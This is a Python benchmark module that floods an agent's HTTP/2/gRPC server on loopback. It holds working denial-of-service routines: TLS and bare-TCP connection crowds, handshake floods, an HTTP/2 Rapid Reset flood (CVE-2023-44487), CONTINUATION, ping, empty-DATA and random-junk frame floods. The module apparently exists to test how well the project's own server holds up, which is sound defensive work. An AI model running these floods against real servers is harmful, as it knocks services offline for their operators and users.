"""Attackers of an agent's front, on loopback: crowds that hold connections, and floods that HTTP/2's rules allow.

    python -m benchmarks.attackers KIND --port PORT --name NAME --certificate FILE --key FILE --ca FILE --count N
        --seconds S

Says `ready` when the attack is under way, goes on until its standard input ends, S seconds at most, and says in one
line of JSON what it did. All but `bare` have a valid certificate: without one TLS ends them. What the front ends is
begun anew.
"""

import argparse
import asyncio
import json
import random
import ssl
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import asdict, dataclass, field

from benchmarks.paced_calls import Target, target_of, targeted
from benchmarks.raw_h2 import DATA, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, client_context, frame, literal

PING, CONTINUATION = 0x6, 0x9
ACK = 0x1
CANCEL = (8).to_bytes(4, "big")
# A flood is sent in this many parts a second.
PARTS = 50
# What the front has not read yet; a flood waits for it.
MOST_UNREAD = 1 << 20
AT_ONCE = 32
FIRST = asyncio.FIRST_COMPLETED
# A front that ends a connection at once must not make of a flood one of handshakes.
PAUSE = 0.05
HEAD = b"".join(
    literal(key, value)
    for key, value in (
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", b"/grpc.health.v1.Health/Check"),
        (b":authority", b"agent"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
        (b"grpc-timeout", b"5S"),
    )
)


@dataclass
class Tally:
    """What an attack came to: connections opened, open at its end, refused or ended by the front, and frames sent."""

    opened: int = 0
    held: int = 0
    ended: int = 0
    frames: int = 0
    seconds: float = 0.0


class Speaker(asyncio.Protocol):
    """One connection that speaks as much HTTP/2 as keeps it alive: it acknowledges settings and pings."""

    def __init__(self) -> None:
        self.heard = asyncio.Event()
        self.over = asyncio.Event()
        self._buffer = bytearray()
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        transport.write(PREFACE + frame(SETTINGS, 0, 0, b""))

    def data_received(self, data: bytes) -> None:
        self.heard.set()
        self._buffer += data
        while len(self._buffer) >= 9:
            end = 9 + int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < end:
                return
            kind, flags, payload = self._buffer[3], self._buffer[4], bytes(self._buffer[9:end])
            del self._buffer[:end]
            if kind in (SETTINGS, PING) and not flags & ACK:
                self.send(frame(kind, ACK, 0, payload if kind == PING else b""))

    def connection_lost(self, exc: Exception | None) -> None:
        self.over.set()

    def send(self, data: bytes) -> bool:
        """Whether it was sent: not where the front reads no more."""
        if self.transport is None or self.transport.is_closing():
            return False
        if self.transport.get_write_buffer_size() > MOST_UNREAD:
            return False
        self.transport.write(data)
        return True

    def close(self) -> None:
        if self.transport:
            self.transport.abort()


@dataclass
class Attack:
    """An attack under way. `count` is of connections, of handshakes a second or of frames a second."""

    target: Target
    tls: ssl.SSLContext
    count: int
    ready: asyncio.Event = field(default_factory=asyncio.Event)
    tally: Tally = field(default_factory=Tally)

    async def connected(self, *, bare: bool = False) -> Speaker | None:
        """A connection, or None where the front would not have it."""
        loop = asyncio.get_running_loop()
        where = {} if bare else {"ssl": self.tls, "server_hostname": self.target.name}
        kind = Silent if bare else Speaker
        try:
            _, made = await loop.create_connection(kind, self.target.address, self.target.port, **where)  # type: ignore[call-overload]
        except OSError:
            self.tally.ended += 1
            return None
        self.tally.opened += 1
        assert isinstance(made, Speaker)
        return made


class Silent(Speaker):
    """A bare TCP connection that sends nothing."""

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport

    def data_received(self, data: bytes) -> None:
        del data


async def crowd(attack: Attack, *, bare: bool = False) -> None:
    """Holds `count` connections, and opens another for each that the front ends."""
    gate = asyncio.Semaphore(AT_ONCE)

    async def hold() -> None:
        while True:
            async with gate:
                speaker = await attack.connected(bare=bare)
            if speaker is None:
                await asyncio.sleep(PAUSE)
                continue
            attack.tally.held += 1
            if attack.tally.held == attack.count:
                attack.ready.set()
            try:
                await speaker.over.wait()
                attack.tally.ended += 1
            finally:
                attack.tally.held -= 1
                speaker.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(attack.count):
            group.create_task(hold())


async def handshakes(attack: Attack) -> None:
    """Opens `count` connections a second, waits for the front's first word on each, and hangs up."""
    flying: set[asyncio.Task[None]] = set()

    async def one() -> None:
        speaker = await attack.connected()
        if speaker:
            with suppress(TimeoutError):
                await asyncio.wait_for(speaker.heard.wait(), 5.0)
            speaker.close()

    begin, number = time.monotonic(), 0
    attack.ready.set()
    while True:
        number += 1
        await asyncio.sleep(begin + number / attack.count - time.monotonic())
        task = asyncio.create_task(one())
        flying.add(task)
        task.add_done_callback(flying.discard)


async def flood(attack: Attack, sent: Callable[[int], bytes]) -> None:
    """Sends `count` pieces a second over one connection, and over the next where the front ends it."""
    number = 0
    while True:
        speaker = await attack.connected()
        if speaker is None:
            await asyncio.sleep(PAUSE)
            continue
        await speaker.heard.wait()
        attack.ready.set()
        number, begin = 0, time.monotonic()
        while not speaker.over.is_set():
            # As many as are due by now: a sleep is longer than it was meant.
            due = int(attack.count * (time.monotonic() - begin))
            part = range(number, min(max(number + 1, due), number + attack.count))
            if speaker.send(b"".join(sent(each) for each in part)):
                number = part.stop
                attack.tally.frames += len(part)
            with suppress(TimeoutError):
                await asyncio.wait_for(speaker.over.wait(), 1 / PARTS)
        attack.tally.ended += 1
        await asyncio.sleep(PAUSE)


def reset(number: int) -> bytes:
    """A call that is begun and at once given up (CVE-2023-44487)."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, CANCEL)


def continuation(number: int) -> bytes:
    """Headers that never end."""
    field = literal(b"x-%d" % number, b"v" * 100) * 8
    if number == 0:
        return frame(HEADERS, 0, 1, HEAD)
    return frame(CONTINUATION, 0, 1, field)


def ping(number: int) -> bytes:
    return frame(PING, 0, 0, number.to_bytes(8, "big"))


def junk(number: int) -> bytes:
    """Frames of any kind, with anything in them."""
    dice = random.Random(number)
    return frame(dice.randrange(12), dice.randrange(256), dice.choice((0, 1, 2, 3, 2**31 - 1)), dice.randbytes(40))


def emptied(number: int) -> bytes:
    """Data frames with nothing in them, on a call that never ends."""
    return frame(HEADERS, END_HEADERS, 1, HEAD) if number == 0 else frame(DATA, 0, 1, b"")


KINDS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    "idle": crowd,
    "bare": lambda attack: crowd(attack, bare=True),
    "handshakes": handshakes,
    "reset": lambda attack: flood(attack, reset),
    "continuation": lambda attack: flood(attack, continuation),
    "ping": lambda attack: flood(attack, ping),
    "junk": lambda attack: flood(attack, junk),
    "emptied": lambda attack: flood(attack, emptied),
}


@contextmanager
def attacking(kind: str, target: Target, count: int, seconds: float) -> Iterator[Tally]:
    """Attacks while the block lasts. The tally is filled when it ends."""
    command = [sys.executable, "-m", "benchmarks.attackers", kind, *target.words()]
    process = subprocess.Popen(
        [*command, "--count", str(count), "--seconds", str(seconds)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    tally = Tally()
    assert process.stdout
    try:
        if process.stdout.readline() != "ready\n":
            raise SystemExit(f"the attack {kind} did not begin; its own message is above")
        yield tally
        said, _ = process.communicate(timeout=30)
        for name, value in json.loads(said).items():
            setattr(tally, name, value)
    finally:
        process.kill()
        process.wait()


async def attack(kind: str, target: Target, count: int, seconds: float) -> Tally:
    """Runs one attack until standard input ends, `seconds` at most."""
    made = Attack(target, client_context(target.certificate, target.key, target.ca), count)
    begin = time.monotonic()
    acting = asyncio.ensure_future(KINDS[kind](made))
    await asyncio.wait([acting, asyncio.ensure_future(made.ready.wait())], timeout=seconds, return_when=FIRST)
    if made.ready.is_set():
        print("ready", flush=True)
        await asyncio.wait([acting, asyncio.ensure_future(_end_of_input())], timeout=seconds, return_when=FIRST)
    made.tally.seconds = time.monotonic() - begin
    held = made.tally.held
    acting.cancel()
    with suppress(asyncio.CancelledError):
        await acting
    made.tally.held = held
    return made.tally


async def _end_of_input() -> None:
    reader = asyncio.StreamReader()
    await asyncio.get_running_loop().connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    await reader.read()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=sorted(KINDS))
    targeted(parser)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    given = parser.parse_args()
    print(json.dumps(asdict(asyncio.run(attack(given.kind, target_of(given), given.count, given.seconds)))), flush=True)


if __name__ == "__main__":
    main()
